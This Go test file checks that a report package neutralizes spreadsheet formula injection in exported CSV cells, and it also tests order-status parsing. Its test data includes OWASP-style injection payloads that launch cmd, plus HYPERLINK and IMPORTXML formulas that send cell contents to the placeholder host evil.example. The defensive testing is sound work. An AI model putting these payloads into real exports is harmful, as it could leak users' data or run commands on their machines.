package report

import (
	"net/url"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/vend-shop/vend"
)

// formulaName is a buyer's name that a spreadsheet would run as a formula.
const formulaName = `=HYPERLINK("http://evil.example/?d="&A1,"Click")`

func TestCell(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ in, want string }{
		{"", ""},
		{"Jörg Müller", "Jörg Müller"},
		{formulaName, "'" + formulaName},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"＝1+1", "'＝1+1"},
		{"-19.95", "-19.95"},
		{"+49", "+49"},
		{"19.95", "19.95"},
		{"-", "'-"},
		{"a=b", "a=b"},
		{"agent \x1b[31mred\x07", "agent \uFFFD[31mred\uFFFD"},
		{"two\nlines", "two\nlines"},
		{"\n=1+1", "'\n=1+1"},

		// OWASP's CSV injection payloads.
		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{"=10+20+cmd|' /C calc'!A0", "'=10+20+cmd|' /C calc'!A0"},
		{"+2+3+cmd|' /C calc'!A0", "'+2+3+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
		{"\n-3+3+cmd|' /C calc'!A0", "'\n-3+3+cmd|' /C calc'!A0"},
		{`=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")`,
			`'=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")`},

		// After a ';', where German Excel splits an unquoted field, and after a
		// ',', where a reader that ignores quotes splits it.
		{"ok;=cmd|' /C calc'!A0", "ok;'=cmd|' /C calc'!A0"},
		{"ok,=cmd|' /C calc'!A0", "ok,'=cmd|' /C calc'!A0"},
		{"ok;+1+1", "ok;'+1+1"},
		{"ok;-2+3", "ok;'-2+3"},
		{"ok;@SUM(A1)", "ok;'@SUM(A1)"},
		{"ok;\t=1+1", "ok;'\t=1+1"},
		{"ok;\r=1+1", "ok;'\r=1+1"},
		{"ok;＝1+1", "ok;'＝1+1"},
		{"ok; =1+1", "ok; '=1+1"},
		{`ok;"=1+1"`, `ok;"'=1+1"`},
		{"a;b,=1;c;@x", "a;b,'=1;c;'@x"},
		{"ok;=a;=b", "ok;'=a;'=b"},
		{"ok;", "ok;"},
		{";=1", ";'=1"},

		// Honest data stays as it is.
		{"ok;-19.95", "ok;-19.95"},
		{"1;-5", "1;-5"},
		{"1,+5", "1,+5"},
		{"bytes=0-99,-500", "bytes=0-99,-500"},
		{"Doe, Jane", "Doe, Jane"},
		{"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"},
		{"a=b;c=d", "a=b;c=d"},

		// A number on one reading is a formula on the other: "-1;-2" is one
		// cell where ',' separates.
		{"-1;-2", "'-1;-2"},
		{"x;-1,=2", "x;'-1,'=2"},
	} {
		if got := cell(tt.in); got != tt.want {
			t.Errorf("cell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// FuzzCell checks that however a spreadsheet splits a neutralized field (not
// at all, at ',' or at ';'), no cell starts like a formula unless it is a
// plain number, and that neutralizing twice changes nothing.
func FuzzCell(f *testing.F) {
	for _, s := range []string{formulaName, "ok;=cmd|' /C calc'!A0", "ok,-2+3", "-19.95", `a; "@x`, "-1;-2", "\t=1"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := cell(s)
		for _, sep := range []string{"", ",", ";"} {
			pieces := []string{out}
			if sep != "" {
				pieces = strings.Split(out, sep)
			}
			for _, piece := range pieces {
				p := strings.TrimLeft(piece, ` "`)
				if r, _ := utf8.DecodeRuneInString(p); formulaStart(r) && !plainNumber(p) {
					t.Fatalf("cell(%q) = %q: split at %q, %q starts like a formula", s, out, sep, piece)
				}
			}
		}
		if again := cell(out); again != out {
			t.Fatalf("cell(%q) = %q, but cell of that is %q", s, out, again)
		}
	})
}

func TestParseOrderQuery_Status(t *testing.T) {
	t.Parallel()
	q, err := ParseOrderQuery(url.Values{"status": {"refunded"}})
	if err != nil || q.Status != vend.OrderRefunded {
		t.Errorf("status refunded: %+v, %v", q, err)
	}
	// A misspelt status would list nothing, as if there were no such orders.
	if _, err := ParseOrderQuery(url.Values{"status": {"piad"}}); vend.ErrorCode(err) != vend.EINVALID || !strings.Contains(vend.ErrorMessage(err), "piad") {
		t.Errorf("status piad: %v", err)
	}
}
